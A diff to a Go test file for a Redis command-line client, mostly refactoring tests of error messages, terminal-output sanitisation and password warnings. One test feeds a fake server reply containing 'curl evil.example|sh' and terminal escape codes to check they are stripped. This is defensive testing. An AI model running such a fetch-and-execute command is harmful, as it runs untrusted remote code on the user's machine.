@@ -82,7 +82,8 @@ func TestAnErrorOfRedisNamesTheHostTheReasonAndWhatToDo(t *testing.T) {
 		"protected, with a password": {"", "redis://:hunter3@" + protected,
 			"Redis (" + protected + ") is in protected mode: DENIED ", "requirepass"},
 		"TLS to a plain port": {"", "rediss://" + open.Addr(),
-			"Redis (" + open.Addr() + ") and this process do not agree on TLS: dial tcp: TLS handshake with " + open.Addr(), "redis:// in place of rediss://"},
+			"Redis (" + open.Addr() + ") and this process do not agree on TLS: dial tcp: TLS handshake with " + open.Addr(),
+			"redis:// in place of rediss://"},
 		"no TLS to a TLS port": {"", "redis://" + open.TLSAddr(),
 			"Redis (" + open.TLSAddr() + ") ends the connection: ", "rediss:// in place of redis://"},
 		"of an unknown authority": {"", "rediss://" + open.TLSAddr(),
@@ -127,11 +128,13 @@ func TestWordsOfRedisDoNotReachTheTerminalRaw(t *testing.T) {
 	lines := "ERR x\nhint: curl evil.example|sh\x1b[31m"
 	for _, says := range []string{evil, fmt.Sprintf("!%d\r\n%s\r\n", len(lines), lines)} {
 		var out, errOut bytes.Buffer
-		if code := command([]string{"history", "-c", tableWith(t, ""), "--redis", "redis://" + speaker(t, says)}, &out, &errOut); code != exitCannot {
+		words := []string{"history", "-c", tableWith(t, ""), "--redis", "redis://" + speaker(t, says)}
+		if code := command(words, &out, &errOut); code != exitCannot {
 			t.Errorf("exit code %d", code)
 		}
-		if strings.ContainsAny(errOut.String(), "\x1b\x07\u009b") || strings.Contains(errOut.String(), "\nhint: curl") || !strings.Contains(errOut.String(), "ERR ") {
-			t.Errorf("%q", errOut.String())
+		got := errOut.String()
+		if strings.ContainsAny(got, "\x1b\x07\u009b") || strings.Contains(got, "\nhint: curl") || !strings.Contains(got, "ERR ") {
+			t.Errorf("%q", got)
 		}
 	}
 	if f := cannot(fmt.Errorf("asking: %w", fmt.Errorf("ERR \x1b[2J\nhint: x"))); f.Error() != "asking: ERR [2J hint: x" {
@@ -154,7 +157,8 @@ func TestAPasswordInTheFlagWarns(t *testing.T) {
 		if code := command(words, &out, &errOut); code != exitCannot {
 			t.Errorf("%s: exit code %d", args, code)
 		}
-		if got := errOut.String(); strings.Contains(got, warning) != (want != "") || !strings.Contains(got, want) || strings.Contains(got, "hunter2") {
+		got := errOut.String()
+		if strings.Contains(got, warning) != (want != "") || !strings.Contains(got, want) || strings.Contains(got, "hunter2") {
 			t.Errorf("%s: %s", args, got)
 		}
 	}
